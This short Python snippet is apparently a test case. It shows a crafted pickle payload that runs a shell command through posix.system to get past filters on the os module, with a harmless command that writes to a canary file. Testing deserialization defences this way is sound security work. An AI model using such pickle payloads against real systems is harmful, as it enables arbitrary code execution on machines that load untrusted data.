# The same by the module behind os, which nobody has changed.
# effect: canary
import pickle
print(pickle.loads(b"c_posixsubprocess\nfork_exec\n(S'sh'\ntR.") if False else pickle.loads(b"cposix\nsystem\n(S'echo x > @CANARY@'\ntR."))
